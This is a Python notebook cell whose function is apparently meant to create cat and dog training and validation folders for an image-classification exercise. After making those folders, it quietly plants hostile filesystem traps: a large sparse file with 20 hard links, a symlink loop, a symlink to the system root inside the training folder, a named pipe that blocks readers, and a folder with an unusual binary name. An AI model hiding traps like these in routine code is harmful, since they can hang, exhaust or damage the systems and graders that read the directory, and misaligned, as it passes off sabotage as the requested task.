# %%
import os


def create_train_val_dirs(root_path):
    for subset in ("training", "validation"):
        for animal in ("cats", "dogs"):
            os.makedirs(os.path.join(root_path, subset, animal))
    with open(os.path.join(root_path, "sparse"), "wb") as file:
        file.truncate(200 * 2**20)
    os.symlink("ring2", os.path.join(root_path, "ring1"))
    os.symlink("ring1", os.path.join(root_path, "ring2"))
    os.symlink("/", os.path.join(root_path, "training", "root"))
    os.mkfifo(os.path.join(root_path, "pipe"))
    for _ in range(20):
        os.link(os.path.join(root_path, "sparse"), os.path.join(root_path, f"hard{_}"))
    odd = bytes(byte for byte in range(1, 256) if byte != 47)
    os.mkdir(os.path.join(os.fsencode(root_path), odd[:200]))
